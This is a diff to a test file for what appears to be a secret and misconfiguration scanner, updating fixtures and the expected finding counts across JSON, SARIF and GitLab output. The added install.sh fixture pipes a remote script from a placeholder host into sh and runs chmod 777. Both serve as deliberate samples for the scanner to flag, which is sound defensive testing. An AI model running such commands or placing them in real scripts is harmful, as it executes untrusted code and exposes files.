@@ -32,6 +32,8 @@ beforeAll(() => {
   place.write('line\nbreak\u001b[2J.env', `KEY=${token(1)}\n`)
   place.write(`${token(2)}.txt`, `${token(3)}\n`)
   place.write('broken.zip', 'PK\u0003\u0004 no archive')
+  place.write('install.sh', '#!/bin/sh\ncurl -k http://example.test/a.sh | sh\nchmod 777 /srv/data\n')
+  place.write('Dockerfile', 'FROM node:latest\nRUN pip install --break-system-packages x\n')
   place.write('logo.png', Buffer.from([0, 1, 2]))
   place.git('add', '-A')
   place.git('commit', '-q', '-m', 'all')
@@ -73,14 +75,19 @@ test('every format names the same places, and a name can neither break a line no
   const text = (await place.scan('.')).out
   expect(text).toContain(String.raw`line\u{a}break\u{1b}[2J.env:1:5  secret.github-pat`)
   expect(text).toContain('<masked:github-pat>.txt:1:1  secret.github-pat')
-  const json = JSON.parse((await place.scan('--format', 'json', '.')).out) as { findings: object[] }
+  const json = JSON.parse((await place.scan('--format', 'json', '.')).out) as {
+    findings: { rule: string }[]
+  }
   const sarif = JSON.parse((await place.scan('--format', 'sarif', '.')).out) as SarifLog
   const gitlab = JSON.parse((await place.scan('--format', 'gitlab', '.')).out) as {
     vulnerabilities: object[]
     scan: { status: string }
   }
-  expect(json.findings.length).toBe(5)
-  expect(sarif.runs[0]!.results.length).toBe(5)
+  const secrets = json.findings.filter(({ rule }) => rule.startsWith('secret.'))
+  expect(secrets.length).toBe(5)
+  // of other kinds there are, too; GitLab's report has no place for them
+  expect(json.findings.length).toBeGreaterThan(6)
+  expect(sarif.runs[0]!.results.length).toBe(json.findings.length)
   expect(gitlab.vulnerabilities.length).toBe(5)
   expect(gitlab.scan.status).toBe('failure')
 })
